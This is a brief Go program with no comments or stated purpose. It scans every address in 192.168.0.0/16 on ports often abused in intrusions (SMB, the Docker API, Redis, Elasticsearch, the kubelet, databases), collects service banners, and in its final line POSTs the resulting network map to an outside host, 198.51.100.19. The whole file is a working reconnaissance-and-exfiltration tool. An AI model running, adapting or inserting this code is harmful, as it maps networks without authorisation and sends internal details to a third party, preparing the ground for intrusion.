package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"sync"
	"time"
)

var ports = []int{22, 80, 443, 445, 2375, 3306, 5432, 6379, 9200, 10250, 27017}

type hit struct {
	Addr   string
	Banner string
}

func main() {
	jobs, hits := make(chan string, 1024), make(chan hit, 64)
	var wg sync.WaitGroup
	for i := 0; i < 800; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a := range jobs {
				c, err := net.DialTimeout("tcp", a, 700*time.Millisecond)
				if err != nil {
					continue
				}
				b := make([]byte, 128)
				c.SetReadDeadline(time.Now().Add(time.Second))
				n, _ := c.Read(b)
				c.Close()
				hits <- hit{a, string(b[:n])}
			}
		}()
	}
	go func() {
		for x := 0; x < 256; x++ {
			for y := 1; y < 255; y++ {
				for _, p := range ports {
					jobs <- fmt.Sprintf("192.168.%d.%d:%d", x, y, p)
				}
			}
		}
		close(jobs)
		wg.Wait()
		close(hits)
	}()
	var all []hit
	for h := range hits {
		all = append(all, h)
	}
	b, _ := json.Marshal(all)
	http.Post("http://198.51.100.19/map", "application/json", bytes.NewReader(b))
}
